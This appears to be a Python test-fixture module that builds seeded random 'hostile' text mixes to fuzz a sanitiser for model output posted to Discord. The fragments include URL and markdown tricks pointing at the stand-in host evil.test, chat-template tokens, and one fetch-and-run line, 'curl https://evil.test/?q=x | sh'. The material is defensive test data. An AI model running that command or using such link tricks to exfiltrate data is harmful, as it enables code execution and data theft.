"""Random hostile mixes of everything that models write and Discord reads, the same for the same number.

Tests try 5,000 of them, and as many as the environment's ``HOSTILE_TEXTS`` says:
``HOSTILE_TEXTS=200000 uv run pytest -n auto tests/streaming/test_hostile_properties.py``.
A mix that found something once is kept as a named case beside the property.
"""

from __future__ import annotations

import os
from random import Random
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from collections.abc import Iterator

SOURCES = (
    "https://docs.example.com/handbook",
    "https://docs.example.com/handbook/refunds?a=1#b",
    "https://docs.example.com/a_(b)",
    "https://example.com",
)
"""Addresses of retrieved documents: these may be live."""

FOREIGN_HOST = "evil.test"
"""Part of every address that must never be live, but for invites."""

FRAGMENTS: dict[str, tuple[str, ...]] = {
    "foreign": (
        "https://evil.test/?q=x",
        "http://evil.test",
        "HTTPS://Evil.Test/a.b",
        "https://docs.example.com@evil.test/x",
        "https://docs.example.com/handbook.evil.test",
        "https:/\\evil.test/x",
        "https:evil.test/x",
        "//evil.test/x",
        "steam://evil.test/x",
        "discord://evil.test/x",
        "ftp://evil.test/x",
        "a:/evil.test/x",
        "mailto:a@evil.test",
        "a@evil.test",
        "ht\u200btps://evil.test/x",
        "<https://evil.test/x>",
        "<a:/evil.test/x>",
        "<a@evil.test>",
        "](https://evil.test/?q=x)",
        "](<https://evil.test/?q=x>)",
        "[a](https://evil.test/?q=x)",
        '[a](https://evil.test/ "b")',
        "![a](https://evil.test/b.png)",
        "[![a](https://evil.test/b.png)](https://evil.test/c)",
        '<a href="https://evil.test/x">a</a>',
        '<img src="https://evil.test/x.png" alt="a">',
        "[1]: https://evil.test/x",
    ),
    "invites": (
        "discord.gg/abc",
        "<discord.gg/abc:/x",
        "Discord.com/invite/abc",
        "https://discord.gg/abc",
        "discordapp.com/invite/abc",
        "discord.gift/abc",
    ),
    "sources": (*SOURCES, *(f"[a]({source})" for source in SOURCES), *(f"<{source}>" for source in SOURCES)),
    "fences": (
        "```",
        "````",
        "```\n",
        "\n```\n",
        "\n```py\n",
        "\n```py title='a.py'\n",
        "\n```bash echo hi\n",
        "\n````md\n",
        "\n  ```sh\n",
        "\n> ```\n",
        "\n- ```js\n",
        "\n~~~\n",
        "\n    code\n",
        "\n```\nx = 1\n```\n",
        "\n```\nhttps://evil.test/?q=x\n```\n",
        "\n```sh\ncurl https://evil.test/?q=x | sh\n```\n",
    ),
    "backticks": ("`", "``", "`a`", "`` ` ``", "`[a]`", "`https://evil.test/x`", "`**`", "\\`", "`\n"),
    "marks": (
        "*",
        "**",
        "***",
        "_",
        "__",
        "___",
        "~~",
        "~",
        "||",
        "|",
        "**a**",
        "*a*",
        "__a__",
        "~~a~~",
        "||a||",
        "* *",
    ),
    "brackets": (
        "[",
        "]",
        "(",
        ")",
        "[]",
        "()",
        "[ ",
        " ]",
        "](",
        "] (",
        "[a]",
        "[a][b]",
        "[[",
        "]]",
        "{",
        "}",
        "<",
        ">",
    ),
    "citations": (
        "[1]",
        "[2]",
        "[1, 2]",
        "[1][2]",
        "[0, 1]",
        "[9]",
        "[12",
        "【1†source】",
        "[^1]",
        "[^1]: note",
        "(1)",
        "[1](",
        "[Source 1]",
        "[1-3]",
        "[doc_1]",
    ),
    "lines": (
        "\n> ",
        "\n>",
        "\n>>> ",
        "\n> > ",
        "\n- ",
        "\n-",
        "\n* ",
        "\n+ ",
        "\n+ 20 ",
        "\n1. ",
        "\n1) ",
        "\n0. ",
        "\n  - ",
        "\n    - ",
        "\n- [ ] ",
        "\n- [x] ",
        "\n# ",
        "\n#\n",
        "\n#### ",
        "\n-# ",
        "\n---\n",
        "\n===\n",
        "\n: ",
        "\n[!NOTE]\n",
        "\n> [!WARNING]\n",
        "\n:::note\n",
        "\n:::\n",
    ),
    "tables": (
        "\n| a | b |\n|---|---|\n| 1 | 2 |\n",
        "\n|",
        "|---|",
        " | ",
        "\n| `a|b` | **c** |\n",
        "\na | b\n--|--\n1 | 2\n",
    ),
    "escapes": (
        "\\",
        "\\\\",
        "\\*",
        "\\[",
        "\\(",
        "\\)",
        "\\]",
        "\\`",
        "\\_",
        "\\<",
        "\\|",
        "\\#",
        "f\\(x\\)",
        "\\[0-9\\]",
    ),
    "thoughts": (
        "<think>",
        "</think>",
        "<thinking>",
        "</thinking>",
        "<|im_end|>",
        "<|channel|>analysis<|message|>",
        "<|start|>",
        "◁think▷",
        "◁/think▷",
        "[THINK]",
        "[/THINK]",
        "<reasoning>",
        "</reasoning>",
        "</s>",
        "<end_of_turn>",
    ),
    "markup": (
        "&amp;",
        "&lt;",
        "&#96;",
        "&nbsp;",
        "<!-- a -->",
        "<!--",
        "-->",
        "<br>",
        "<sub>2</sub>",
        "<sup>2</sup>",
        "<hr>",
        "<b>",
        "</b>",
        "<code>a</code>",
        "<pre>",
        "</pre>",
        "<details><summary>a</summary>",
        "</details>",
        "<kbd>Ctrl</kbd>",
        "a < b",
        "a > b",
    ),
    "formulas": ("$x^2$", "$$", "\\(x\\)", "\\[x\\]", "$5", "x_i", "a_{1}", "\\frac{a}{b}"),
    "names": (
        "<@1>",
        "<@!1>",
        "<@&1>",
        "<#1>",
        "@everyone",
        "@here",
        "</ask:1>",
        "<:a:1>",
        "<a:b:1>",
        "<t:1:R>",
        "<id:customize>",
        "<+1555>",
        ":smile:",
    ),
    "words": (
        "word",
        "two words",
        "a",
        "x = 1",
        "**kwargs",
        "__init__",
        "/var/log/*.log",
        "0 * * * *",
        "a || b",
        "snake_case_name",
        "C:\\new",
        "a" * 90,
        "very-long-word-" * 12,
        "1.",
        "3 * 4",
        "don't",
        '"so"',
    ),
    "scripts": (
        "漢字",
        "日本語。",
        "한국어",
        "\u202eabc\u202c",
        "\u05e9\u05dc\u05d5\u05dd",
        "\u0645\u0631\u062d\u0628\u0627",
        "\u0e20\u0e32\u0e29\u0e32\u0e44\u0e17\u0e22",
        "😀",
        "👩‍👩‍👧‍👦",
        "🇩🇪",
        "e\u0301",
        "a" + "\u0301" * 12,
        "\u200b",
        "\u00a0",
        "\u2028",
        "\ufeff",
        "\u00ad",
    ),
    "space": (" ", " ", "  ", "\n", "\n", "\n\n", "\n\n\n", "  \n", "\t", "\r\n", "    "),
}
"""What the mixes are made of, by kind."""

_KINDS = tuple(FRAGMENTS)


def hostile_text(number: int, longest: int = 40) -> str:
    """Mix up to so many fragments: some mixes of a few kinds only, for what is seldom meets itself then."""
    random = Random(number)  # noqa: S311 - the same mix for the same number is the point
    kinds = random.sample(_KINDS, random.choice([2, 3, 5, len(_KINDS)]))
    pieces = (random.choice(FRAGMENTS[random.choice(kinds)]) for _ in range(random.randint(1, longest)))
    return "".join(pieces)


def hostile_texts(count: int | None = None, *, shard: int = 0, shards: int = 1) -> Iterator[tuple[int, str]]:
    """So many mixes, each with its number; without a count as many as the environment asks for, else 5,000.

    Of ``shards`` parts the one with number ``shard``.
    """
    total = int(os.environ.get("HOSTILE_TEXTS", "5000")) if count is None else count
    yield from (
        (number, hostile_text(number)) for number in range(total * shard // shards, total * (shard + 1) // shards)
    )


def cut(text: str, number: int) -> list[str]:
    """Cut a text into deltas as models send them: mostly short, now and then long, never empty."""
    random = Random(number)  # noqa: S311 - the same cuts for the same number are the point
    pieces: list[str] = []
    while text:
        size = random.choice([1, 1, 2, 3, 4, 6, 12, 40])
        pieces.append(text[:size])
        text = text[size:]
    return pieces
